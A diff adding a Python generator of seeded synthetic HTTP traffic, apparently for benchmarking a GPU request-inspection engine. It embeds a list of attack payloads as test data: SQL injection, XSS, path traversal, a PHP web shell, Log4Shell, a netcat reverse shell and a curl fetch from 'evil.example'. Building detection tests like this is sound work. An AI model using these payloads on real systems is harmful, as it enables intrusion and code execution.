@@ -1,0 +1,196 @@
+"""Seeded synthetic HTTP traffic (BASELINE.md "Inputs").
+
+Seed 0xC0A2A, numpy PCG64.  C1/C2: GET requests, path from 20 templates,
+0-6 query args (key len U[3,12], value len lognormal(2.5, 0.8) clipped to
+[1, 256] over URL-safe ASCII with ~15 % percent-escapes), ~10 browser-like
+headers (~600 B incl. a Cookie with 0-4 pairs), 5 % of requests carry an
+attack payload in a random argument.  C3 adds 50 % POST requests with
+4-64 KB application/x-www-form-urlencoded bodies.
+
+Produces the packed gi_batch layout directly (gpuinspect.pack_parts) so a
+million requests build in seconds.
+"""
+
+from __future__ import annotations
+
+import numpy as np
+
+import gpuinspect
+
+SEED = 0xC0A2A
+
+PATHS = [
+    b"/", b"/index.html", b"/api/v1/users", b"/api/v1/users/%d", b"/search", b"/products/%d",
+    b"/static/js/app.%d.js", b"/static/css/main.css", b"/images/logo.png", b"/login",
+    b"/account/settings", b"/cart", b"/checkout", b"/blog/post-%d", b"/news", b"/api/v2/orders/%d/items",
+    b"/docs/page-%d.html", b"/download", b"/healthz", b"/graphql",
+]
+USER_AGENTS = [
+    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
+    b"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
+    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
+    b"curl/8.5.0", b"Go-http-client/1.1", b"python-requests/2.31.0", b"okhttp/4.12.0",
+]
+HOSTS = [b"www.example.com", b"api.example.com", b"shop.example.com", b"localhost:8080"]
+ACCEPTS = [b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", b"application/json", b"*/*",
+           b"image/avif,image/webp,*/*"]
+LANGS = [b"en-US,en;q=0.9", b"de-DE,de;q=0.8,en;q=0.5", b"fr-FR", b"ja,en-US;q=0.7"]
+ENCODINGS = [b"gzip, deflate, br", b"gzip", b"identity"]
+COOKIE_NAMES = [b"sessionid", b"_ga", b"theme", b"lang", b"csrftoken", b"cart_id", b"_gid", b"consent"]
+ESCAPES = [b"%20", b"%2F", b"%3D", b"%C3%A9", b"%E2%82%AC", b"%26", b"%2B", b"%40", b"+", b"%41"]
+URLSAFE = np.frombuffer(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~", np.uint8)
+KEYCHARS = np.frombuffer(b"abcdefghijklmnopqrstuvwxyz_", np.uint8)
+
+# Attack payloads (fixed list; raw form -- encoded per request below)
+ATTACKS = [
+    b"1 UNION SELECT username, password FROM users",
+    b"1' OR '1'='1",
+    b"admin' or 1=1--",
+    b"1; DROP TABLE users",
+    b"<script>alert(1)</script>",
+    b"<img src=x onerror=alert(document.cookie)>",
+    b"javascript:alert(1)",
+    b"<iframe src=//evil.example/x>",
+    b"../../../../etc/passwd",
+    b"..\\..\\windows\\win.ini",
+    b";cat /etc/passwd",
+    b"| nc -e /bin/sh 10.0.0.1 4444",
+    b"$(curl http://evil.example/x.sh)",
+    b"evilmonkey",
+    b"<?php system($_GET['c']); ?>",
+    b"php://filter/convert.base64-encode/resource=index.php",
+    b"${jndi:ldap://evil.example/a}",
+    b"select * from information_schema.tables",
+    b"1 AND SLEEP(5)",
+    b"\" onmouseover=\"alert(1)",
+]
+
+
+def _quote(s: bytes, full: bool) -> bytes:
+    out = bytearray()
+    for c in s:
+        ch = bytes([c])
+        if (48 <= c <= 57) or (65 <= c <= 90) or (97 <= c <= 122) or ch in b"-._~":
+            out += ch
+        elif c == 0x20 and not full:
+            out += b"+"
+        elif not full and ch in b"<>'\"()/;:$|{}.!*":
+            out += ch
+        else:
+            out += b"%%%02X" % c
+    return bytes(out)
+
+
+class TrafficGen:
+    def __init__(self, seed: int = SEED):
+        self.rng = np.random.Generator(np.random.PCG64(seed))
+        self.pool = URLSAFE[self.rng.integers(0, len(URLSAFE), 1 << 22)].tobytes()
+        self.kpool = KEYCHARS[self.rng.integers(0, len(KEYCHARS), 1 << 20)].tobytes()
+
+    def _args(self, n_args, attack_at):
+        rng = self.rng
+        out = []
+        klens = rng.integers(3, 13, n_args)
+        vlens = np.clip(rng.lognormal(2.5, 0.8, n_args), 1, 256).astype(np.int64)
+        ko = rng.integers(0, len(self.kpool) - 16, n_args)
+        vo = rng.integers(0, len(self.pool) - 260, n_args)
+        esc = rng.random(n_args) < 0.15
+        for a in range(n_args):
+            k = self.kpool[ko[a]:ko[a] + klens[a]]
+            v = self.pool[vo[a]:vo[a] + vlens[a]]
+            if esc[a]:
+                v = v[: len(v) // 2] + ESCAPES[int(rng.integers(0, len(ESCAPES)))] + v[len(v) // 2:]
+            if a == attack_at:
+                p = ATTACKS[int(rng.integers(0, len(ATTACKS)))]
+                v = _quote(p, full=bool(rng.random() < 0.5))
+            out.append(k + b"=" + v)
+        return b"&".join(out)
+
+    def _headers(self, parts, path):
+        rng = self.rng
+        hs = [
+            (b"Host", HOSTS[int(rng.integers(0, len(HOSTS)))]),
+            (b"User-Agent", USER_AGENTS[int(rng.integers(0, len(USER_AGENTS)))]),
+            (b"Accept", ACCEPTS[int(rng.integers(0, len(ACCEPTS)))]),
+            (b"Accept-Language", LANGS[int(rng.integers(0, len(LANGS)))]),
+            (b"Accept-Encoding", ENCODINGS[int(rng.integers(0, len(ENCODINGS)))]),
+        ]
+        nck = int(rng.integers(0, 5))
+        if nck:
+            names = rng.choice(len(COOKIE_NAMES), nck, replace=False)
+            vo = rng.integers(0, len(self.pool) - 40, nck)
+            ck = b"; ".join(COOKIE_NAMES[int(nm)] + b"=" + self.pool[vo[j]:vo[j] + 24] for j, nm in enumerate(names))
+            hs.append((b"Cookie", ck))
+        if rng.random() < 0.5:
+            hs.append((b"Referer", b"https://www.example.com" + path))
+        o = int(rng.integers(0, len(self.pool) - 40))
+        hs.append((b"X-Request-Id", self.pool[o:o + 32]))
+        hs.append((b"Cache-Control", b"no-cache" if rng.random() < 0.3 else b"max-age=0"))
+        hs.append((b"Upgrade-Insecure-Requests", b"1"))
+        for k, v in hs:
+            parts.append(k)
+            parts.append(v)
+        return len(hs)
+
+    def _path(self):
+        rng = self.rng
+        t = PATHS[int(rng.integers(0, len(PATHS)))]
+        return t % int(rng.integers(1, 100000)) if b"%d" in t else t
+
+    def gen(self, n: int, post_frac: float = 0.0, attack_rate: float = 0.05):
+        """Return (parts, nh) for gpuinspect.pack_parts."""
+        rng = self.rng
+        parts = []
+        nh = np.empty(n, np.int64)
+        n_args = rng.integers(0, 7, n)
+        attack = rng.random(n) < attack_rate
+        post = rng.random(n) < post_frac
+        for i in range(n):
+            path = self._path()
+            na = int(n_args[i])
+            att = int(rng.integers(0, na)) if (attack[i] and na > 0) else -1
+            if attack[i] and na == 0:
+                na, att = 1, 0
+            q = self._args(na, att) if na else b""
+            uri = path + (b"?" + q if q else b"")
+            if post[i]:
+                body = self._urlencoded_body()
+                parts += [b"POST", uri, b"HTTP/1.1", body]
+                k = self._headers(parts, path)
+                parts += [b"Content-Type", b"application/x-www-form-urlencoded", b"Content-Length",
+                          str(len(body)).encode()]
+                nh[i] = k + 2
+            else:
+                parts += [b"GET", uri, b"HTTP/1.1", b""]
+                nh[i] = self._headers(parts, path)
+        return parts, nh
+
+    def _urlencoded_body(self):
+        rng = self.rng
+        target = int(np.exp(rng.uniform(np.log(4096), np.log(65536))))
+        chunks = []
+        size = 0
+        while size < target:
+            na = int(rng.integers(4, 16))
+            att = int(rng.integers(0, na)) if rng.random() < 0.05 else -1
+            c = self._args(na, att)
+            chunks.append(c)
+            size += len(c) + 1
+        return b"&".join(chunks)[:target].rstrip(b"%")
+
+    def batch(self, n: int, post_frac: float = 0.0, attack_rate: float = 0.05) -> "gpuinspect.PackedBatch":
+        parts, nh = self.gen(n, post_frac, attack_rate)
+        return gpuinspect.pack_parts(parts, nh)
+
+
+def c1_batch(n: int = 10000, seed: int = SEED):
+    return TrafficGen(seed).batch(n)
+
+
+def c2_batch(n: int = 1_000_000, seed: int = SEED):
+    return TrafficGen(seed).batch(n)
+
+
+def c3_batch(n: int = 100_000, seed: int = SEED):
+    return TrafficGen(seed).batch(n, post_frac=0.5)
